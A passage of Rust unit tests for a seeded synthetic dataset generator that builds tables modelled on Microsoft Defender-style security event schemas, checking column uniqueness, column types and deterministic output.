                .map(|c| (c.name.clone(), c.data_type))
                .collect();
            assert_eq!(got, spec.cols, "{}", spec.name);
            let mut seen = std::collections::HashSet::new();
            assert!(
                spec.cols.iter().all(|c| seen.insert(&c.0)),
                "{}: a column twice",
                spec.name
            );
        }
        let total: usize = specs.iter().map(|s| s.cols.len()).sum();
        assert!(total > 700, "{total} columns");
        // Spot checks of documented names and types.
        let ty = |t: &str, c: &str| {
            let t = ds.table(t).unwrap();
            t.schema()[t.column_index(c).unwrap()].data_type
        };
        assert_eq!(ty("DeviceFileEvents", "RequestSourcePort"), DataType::Int);
        assert_eq!(ty("EmailEvents", "ReportId"), DataType::String);
        assert_eq!(ty("DeviceEvents", "ReportId"), DataType::Long);
        assert_eq!(ty("CloudAppEvents", "RawEventData"), DataType::Dynamic);
        assert_eq!(ty("IdentityInfo", "IsAccountEnabled"), DataType::Bool);
        assert_eq!(
            ty("DeviceTvmSoftwareInventory", "EndOfSupportDate"),
            DataType::DateTime
        );
    }

    #[test]
    fn the_same_seed_gives_the_same_tables() {
        let cfg = DatasetConfig {
            rows_per_table: 200,
            seed: 7,
            ..DatasetConfig::default()
        };
        let (a, b) = (Dataset::generate(&cfg), Dataset::generate(&cfg));
        for (x, y) in a.tables().iter().zip(b.tables()) {
            assert_eq!(x.row_count(), y.row_count());
            for r in (0..x.row_count()).step_by(17) {
                assert_eq!(
                    format!("{:?}", x.row(r)),
                    format!("{:?}", y.row(r)),
                    "{}",
                    x.name()
                );
            }
        }
    }
}
